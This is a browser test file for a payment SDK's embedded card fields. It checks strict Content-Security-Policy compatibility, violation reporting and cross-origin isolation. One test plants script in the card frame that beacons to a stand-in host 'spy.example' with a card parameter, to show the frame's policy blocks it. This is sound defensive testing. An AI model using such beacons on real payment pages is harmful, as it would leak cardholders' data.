// Goal: a merchant's page needs the vault's origin in script-src and frame-src and nothing else,
// and may be cross-origin isolated. Method: pay on pages with the strictest headers, and count
// reports.
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { useBrowserRig } from './testing/browser-rig.ts';
import { inPage } from './testing/merchant-page.ts';
import { fieldsOf, typeCard } from './testing/shop-page.ts';

const rig = useBrowserRig();

/** Keeps the policy violations of every document. */
const COUNT = `
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    violations.push([event.effectiveDirective, event.blockedURI, event.sample]);
  });
`;

const strictPolicy = (): string =>
  `default-src 'none'; script-src ${rig.vault.origin}; frame-src ${rig.vault.origin}; ` +
  `base-uri 'none'; form-action 'none'; require-trusted-types-for 'script'; trusted-types 'none'`;

async function violations(page: Page): Promise<unknown[]> {
  return (await Promise.all(page.frames().map((frame) => frame.evaluate('violations')))).flat();
}

test.each(['card', 'payment'] as const)(
  'the %s element under the strictest policy',
  async (kind) => {
    const warnings: string[] = [];
    // The payment element reads its intent by itself.
    rig.vault.answer = () => ({ status: 200, body: { id: 'pi_1', status: 'succeeded' } });
    const page = await rig.open({
      kind,
      group: `{ clientSecret: 'pi_1_secret_2', appearance: { theme: 'night',
      variables: { colorPrimary: '#f00' }, rules: { '.Input': { padding: '5px' } } } }`,
      element: `{ style: { base: { color: '#00f', '::placeholder': { color: '#0f0' } } } }`,
      before: COUNT,
      headers: { 'content-security-policy': strictPolicy() },
    });
    page.on('console', (message) => warnings.push(message.text()));
    await typeCard(page, fieldsOf(page, kind), { number: '4242424242424242' });
    const call =
      kind === 'card'
        ? `coffer.confirmCardPayment('pi_1_secret_2', { payment_method: { card } })`
        : `coffer.confirmPayment({ elements: group, redirect: 'if_required' })`;
    expect(await inPage(page, call)).toEqual({
      paymentIntent: { id: 'pi_1', status: 'succeeded' },
    });
    expect(await violations(page)).toEqual([]);
    await page.evaluate('card.destroy()');
    expect(await page.evaluate('violations')).toEqual([]);
    expect(warnings).toEqual([]);
  },
);

test('the page would report a violation', async () => {
  const page = await rig.open({
    kind: 'card',
    before: COUNT,
    headers: { 'content-security-policy': strictPolicy() },
  });
  await page.evaluate(`document.body.append(document.createElement('style'));
    document.querySelector('style').textContent = 'a{}'`);
  // The event comes in a task of its own.
  await expect.poll(() => violations(page)).toContainEqual(['style-src-elem', 'inline', '']);
});

test.each(['card', 'payment'] as const)('the %s element on an isolated page', async (kind) => {
  const page = await rig.open({
    kind,
    headers: {
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-embedder-policy': 'require-corp',
    },
  });
  expect(await page.evaluate('crossOriginIsolated')).toBe(true);
  rig.vault.answer = () => ({ status: 200, body: { id: 'pm_1' } });
  await typeCard(page, fieldsOf(page, kind), { number: '4242424242424242' });
  expect(await inPage(page, 'coffer.createPaymentMethod({ elements: group })')).toEqual({
    paymentMethod: { id: 'pm_1' },
  });
});

test('what the frame’s own policy stopped is told to the merchant’s code, without addresses', async () => {
  const page = await rig.open({ kind: 'card' });
  const frame = page.frames().find((one) => one.url().endsWith('/fields/card'));
  // As an extension would that was let into the frame.
  await frame?.evaluate(`(() => {
    new Image().src = 'https://spy.example:8443/seen?card=1#x';
    const style = document.createElement('style');
    style.textContent = 'a{}';
    document.head.append(style);
    for (let at = 0; at < 40; at += 1) new Image().src = 'data:,' + at;
  })()`);
  const told = `log.filter(([name]) => name === 'cspviolation').map(([, event]) => event)`;
  await expect.poll(() => page.evaluate(`${told}.length`)).toBe(20);
  // Policies are checked in the order of the pictures, and the sheet as soon as it is there.
  const events = (await page.evaluate(told)) as { effectiveDirective: string }[];
  expect(events).toContainEqual({
    elementType: 'card',
    effectiveDirective: 'img-src',
    blockedURI: 'https://spy.example:8443',
  });
  expect(events).toContainEqual({
    elementType: 'card',
    effectiveDirective: 'style-src-elem',
    blockedURI: 'inline',
  });
  expect(JSON.stringify(events)).not.toContain('seen');
});

test('what it stopped before the frame’s script was there is told, too', async () => {
  const before = `if (self !== top) addEventListener('DOMContentLoaded', () => {
    new Image().src = 'https://early.example/';
  })`;
  const page = await rig.open({ kind: 'card', before });
  const told = `log.filter(([name]) => name === 'cspviolation').map(([, event]) => event)`;
  await expect
    .poll(() => page.evaluate(told))
    .toEqual([
      {
        elementType: 'card',
        effectiveDirective: 'img-src',
        blockedURI: 'https://early.example',
      },
    ]);
});

test('the merchant’s page makes no request after the script and the frames', async () => {
  const page = await rig.newPage();
  const requests: string[] = [];
  page.on('request', (request) => {
    if (request.frame() === page.mainFrame()) requests.push(new URL(request.url()).pathname);
  });
  const path = rig.shop.serve({
    html: `<!doctype html><link rel="icon" href="data:,"><div id="card"></div>
      <script src="${rig.vault.origin}/coffer.js"></script>`,
  });
  await page.goto(rig.shop.origin + path);
  await page.evaluate(`new Promise((resolve) => {
    window.coffer = Coffer('pk_test_0123456789');
    const card = coffer.elements().create('card');
    card.on('ready', resolve);
    card.mount('#card');
  })`);
  rig.vault.answer = () => ({ status: 200, body: { id: 'pi_1' } });
  await inPage(page, `coffer.retrievePaymentIntent('pi_1_secret_2')`);
  expect(requests).toEqual([path, '/coffer.js']);
});
